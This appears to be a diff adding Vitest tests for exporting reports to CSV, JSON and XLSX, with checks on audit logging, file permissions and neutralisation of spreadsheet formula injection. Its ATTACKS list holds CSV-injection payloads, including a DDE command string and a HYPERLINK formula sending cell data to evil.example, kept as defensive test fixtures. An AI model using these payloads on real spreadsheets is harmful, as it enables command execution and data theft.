@@ -1,0 +1,292 @@
+import { readFileSync, statSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { parse } from 'csv-parse/sync'
+import { unzipSync } from 'fflate'
+import readWorkbook from 'read-excel-file/node'
+import { describe, expect, test } from 'vitest'
+import { inert } from '../../src/reports/export/csv.ts'
+import { type ExportFormat, exportReports } from '../../src/reports/export/export.ts'
+import { createReports } from '../../src/reports/reports.ts'
+import { verifyAudit } from '../../src/store/audit.ts'
+import type { Store } from '../../src/store/open.ts'
+import { temporaryFolder, temporaryStore } from '../store/temporary.ts'
+import { file, NOON } from './filed.ts'
+
+const COLUMNS = [
+  'receipt',
+  'filed_on',
+  'filed_at',
+  'status',
+  'outcome',
+  'destination',
+  'signals',
+  'language',
+  'seen',
+  'paid',
+  'documents',
+  'recruiter_contacts',
+]
+const FORMATS: ExportFormat[] = ['csv', 'json', 'xlsx']
+/** Own variants of the attacks that OWASP's page on CSV injection describes. */
+const ATTACKS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\0=1+1',
+  ' =1+1',
+  '\u00a0=1+1',
+  '\u200b=1+1',
+  '\ufeff=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  'halo;=1+1',
+  'halo;\u200b=1+1;',
+  'halo\n=1+1',
+  'halo\t=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+  '+62 812 0000 1111',
+]
+
+async function exported(
+  store: Store,
+  format: ExportFormat,
+  more: Partial<Parameters<typeof exportReports>[0]> = {},
+) {
+  const out = join(temporaryFolder(), `out.${format}`)
+  const options = { store, format, from: null, to: null, out, withText: false, actor: 'cli', now: () => NOON }
+  const result = await exportReports({ ...options, ...more })
+  return { out, result }
+}
+const rowsOf = (out: string) => parse(readFileSync(out), { bom: true }) as string[][]
+
+describe.each(FORMATS)('%s', format => {
+  test('is complete, private, and counted', async () => {
+    const { store } = await temporaryStore()
+    for (let i = 0; i < 3; i++) await file(store, i)
+    const { out, result } = await exported(store, format)
+    expect(result).toEqual({ rows: 3, bytes: statSync(out).size, unreadable: 0 })
+    expect((statSync(out).mode & 0o777).toString(8)).toBe('600')
+  })
+
+  test('has no free text unless asked', async () => {
+    const { store } = await temporaryStore()
+    await file(store, 1, { text: 'only-in-the-text' })
+    const content = (out: string) =>
+      format === 'xlsx'
+        ? Object.values(unzipSync(readFileSync(out)))
+            .map(part => Buffer.from(part).toString())
+            .join()
+        : readFileSync(out, 'utf8')
+    expect(content((await exported(store, format)).out)).not.toContain('only-in-the-text')
+    expect(content((await exported(store, format, { withText: true })).out)).toContain('only-in-the-text')
+  })
+
+  test('is a valid file when there is nothing to export', async () => {
+    const { store } = await temporaryStore()
+    const { out, result } = await exported(store, format)
+    expect(result.rows).toBe(0)
+    if (format === 'csv') expect(rowsOf(out)).toEqual([COLUMNS])
+    if (format === 'json') expect(JSON.parse(readFileSync(out, 'utf8'))).toEqual([])
+    if (format === 'xlsx') expect((await readWorkbook(out))[0]?.data).toEqual([COLUMNS])
+  })
+
+  test('leaves nothing behind when the audit cannot be written', async () => {
+    const { store } = await temporaryStore()
+    await file(store, 1)
+    await store.sql.schema.alterTable('audit').renameTo('gone').execute()
+    const out = join(temporaryFolder(), 'x')
+    await expect(exported(store, format, { out })).rejects.toThrow('audit')
+    for (const path of [out, `${out}.part`]) expect(() => statSync(path)).toThrow('ENOENT')
+  })
+})
+
+describe('what is exported', () => {
+  test('the days are days in Jakarta, both inclusive', async () => {
+    const { store } = await temporaryStore()
+    const times = ['24T23:59:59', '25T00:00:00', '26T23:59:59', '27T00:00:00']
+    for (const [i, time] of times.entries()) {
+      await file(store, i, { language: String(i) }, Date.parse(`2026-11-${time}+07:00`))
+    }
+    const languages = async (from: string | null, to: string | null) =>
+      rowsOf((await exported(store, 'csv', { from, to })).out)
+        .slice(1)
+        .map(row => row[7])
+    expect(await languages('2026-11-25', '2026-11-26')).toEqual(['1', '2'])
+    expect(await languages('2026-11-26', null)).toEqual(['2', '3'])
+    expect(await languages(null, '2026-11-24')).toEqual(['0'])
+    expect(await languages(null, null)).toEqual(['0', '1', '2', '3'])
+    await expect(exported(store, 'csv', { from: '2026-02-30' })).rejects.toThrow(RangeError)
+  })
+
+  test('every report once, in order, also over many pages and in the same millisecond', async () => {
+    const { store } = await temporaryStore()
+    const receipts = new Set<string>()
+    for (let i = 0; i < 1203; i++)
+      receipts.add((await file(store, i % 3, {}, NOON + Math.floor(i / 700))).receipt)
+    const { out, result } = await exported(store, 'json')
+    const rows = JSON.parse(readFileSync(out, 'utf8')) as { receipt: string; filed_at: string }[]
+    expect(result.rows).toBe(1203)
+    expect(new Set(rows.map(row => row.receipt))).toEqual(receipts)
+  })
+
+  test('withdrawn reports are not', async () => {
+    const { store } = await temporaryStore()
+    const { receipt } = await file(store, 1)
+    await file(store, 2)
+    const reports = createReports(() => NOON)
+    await store.transaction(trx => reports.withdraw(trx, store.vault.personRef(1), receipt))
+    const { out, result } = await exported(store, 'csv')
+    expect(result.rows).toBe(1)
+    expect(readFileSync(out, 'utf8')).not.toContain(receipt)
+  })
+
+  test('an altered row is left empty and counted, and the others come through', async () => {
+    const { store } = await temporaryStore()
+    const one = await file(store, 1)
+    await file(store, 2)
+    await store.sql
+      .updateTable('reports')
+      .set({ contacts: 'v1.k1.AAAA' })
+      .where('receipt', '=', one.receipt)
+      .execute()
+    const { out, result } = await exported(store, 'csv')
+    expect(result).toMatchObject({ rows: 2, unreadable: 1 })
+    expect(rowsOf(out).find(row => row[0] === one.receipt)?.[11]).toBe('')
+  })
+
+  test('the audit says who, what and how much', async () => {
+    const { store } = await temporaryStore()
+    await file(store, 1)
+    const actor = store.vault.personRef(9)
+    await exported(store, 'xlsx', { from: '2026-11-01', actor })
+    const rows = await store.sql.selectFrom('audit').selectAll().execute()
+    expect(rows).toMatchObject([{ actor, action: 'export', at: NOON }])
+    const detail = { format: 'xlsx', from: '2026-11-01', to: null, text: 0, rows: 1, unreadable: 0 }
+    expect(JSON.parse(rows[0]?.detail ?? '')).toEqual(detail)
+    expect(await verifyAudit(store)).toEqual({ ok: true, rows: 1 })
+  })
+})
+
+describe('csv', () => {
+  test('starts with a byte order mark, quotes every field, ends lines in CR LF', async () => {
+    const { store } = await temporaryStore()
+    await file(store, 1)
+    const text = readFileSync((await exported(store, 'csv')).out, 'utf8')
+    expect(text.startsWith('\uFEFF"receipt","filed_on"')).toBe(true)
+    expect(text.endsWith('"\r\n')).toBe(true)
+    expect(text).toContain('"","","","')
+  })
+
+  test('the columns and how their values are written', async () => {
+    const { store } = await temporaryStore()
+    const reports = createReports(() => NOON)
+    const { receipt } = await file(store, 1, { contacts: ['agen.example', '@agen'] })
+    const details = { seen: 'whatsapp', paid: true, destination: 'MM' } as const
+    await store.transaction(trx => reports.addDetails(trx, store.vault.personRef(1), receipt, details))
+    expect(rowsOf((await exported(store, 'csv')).out)).toEqual([
+      COLUMNS,
+      [
+        receipt,
+        '2026-11-25',
+        '2026-11-25T10:00:00+07:00',
+        'new',
+        'likely_scam',
+        'MM',
+        'salary-high, ticket-paid',
+        'id',
+        'whatsapp',
+        'true',
+        '',
+        'agen.example, @agen',
+      ],
+    ])
+  })
+
+  test.each(ATTACKS)('%j is not computed', attack => {
+    const cell = inert(attack)
+    // What a spreadsheet takes for the start of a cell: the field itself, and after each separator and line end.
+    for (const start of cell.split(/[;\t\r\n]/))
+      expect(start).not.toMatch(/^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u)
+    expect(cell).not.toMatch(/^[\t\r\n\0]/)
+    expect(cell.replaceAll("'", '')).toBe(attack.replaceAll('\0', '').replaceAll("'", ''))
+  })
+
+  test.each(['biasa saja', 'gaji 15-20 juta', 'a=b', 'email@example.org', 'satu\ndua', ''])(
+    '%j stays as it is',
+    text => {
+      expect(inert(text)).toBe(text)
+    },
+  )
+
+  test('attacks survive the file as text, one cell each', async () => {
+    const { store } = await temporaryStore()
+    for (const [i, text] of ATTACKS.entries()) await file(store, i, { text, contacts: [text] }, NOON + i)
+    const rows = rowsOf((await exported(store, 'csv', { withText: true })).out).slice(1)
+    expect(rows.map(row => row[12])).toEqual(ATTACKS.map(inert))
+    expect(rows.map(row => row[11])).toEqual(ATTACKS.map(inert))
+  })
+})
+
+describe('json', () => {
+  test('keeps lists, flags and texts as they are', async () => {
+    const { store } = await temporaryStore()
+    await file(store, 1, { text: '=1+1 "kutip"\n🙂' })
+    const { out } = await exported(store, 'json', { withText: true })
+    expect(JSON.parse(readFileSync(out, 'utf8'))).toMatchObject([
+      {
+        signals: ['salary-high', 'ticket-paid'],
+        paid: null,
+        text: '=1+1 "kutip"\n🙂',
+        filed_on: '2026-11-25',
+      },
+    ])
+  })
+})
+
+describe('xlsx', () => {
+  test('texts are texts, dates are dates, nothing is a formula', async () => {
+    const { store } = await temporaryStore()
+    for (const [i, text] of ATTACKS.entries()) await file(store, i, { text, contacts: [text] }, NOON + i)
+    const { out } = await exported(store, 'xlsx', { withText: true })
+    const sheet = (await readWorkbook(out))[0]?.data ?? []
+    expect(sheet[0]).toEqual([...COLUMNS, 'text'])
+    expect(sheet[1]?.[1]).toEqual(new Date('2026-11-25T00:00:00Z'))
+    expect(sheet[1]?.[2]).toEqual(new Date('2026-11-25T10:00:00Z'))
+    const parts = unzipSync(readFileSync(out))
+    const xml = Buffer.from(parts['xl/worksheets/sheet1.xml'] ?? []).toString()
+    expect(xml).not.toMatch(/<f[ >/]/)
+    expect(xml).toContain('state="frozen"')
+    expect(sheet.slice(1).map(row => String(row[12]).trim())).toEqual(
+      ATTACKS.map(text => text.replaceAll('\0', '').trim()),
+    )
+  })
+
+  test('holds whatever people type', async () => {
+    const { store } = await temporaryStore()
+    const text = '<b>&amp;"\u0001\ud800 _x0041_ 🙂 ]]>'
+    await file(store, 1, { text: text + 'x'.repeat(40_000) })
+    const { out } = await exported(store, 'xlsx', { withText: true })
+    const cell = String((await readWorkbook(out))[0]?.data[1]?.[12])
+    const xml = Buffer.from(unzipSync(readFileSync(out))['xl/worksheets/sheet1.xml'] ?? []).toString()
+    expect(xml).toContain('_x005F_x0041_')
+    expect(cell).toContain('<b>&amp;"\ufffd ')
+    expect(cell.length).toBeLessThanOrEqual(32_767 + '_x005F'.length)
+  })
+})
+
+test('an older file is replaced only when the new one is whole', async () => {
+  const { store } = await temporaryStore()
+  const out = join(temporaryFolder(), 'x.csv')
+  writeFileSync(out, 'older')
+  await expect(exported(store, 'csv', { out, from: 'never' })).rejects.toThrow(RangeError)
+  expect(readFileSync(out, 'utf8')).toBe('older')
+  await exported(store, 'csv', { out })
+  expect(readFileSync(out, 'utf8')).toContain('receipt')
+})
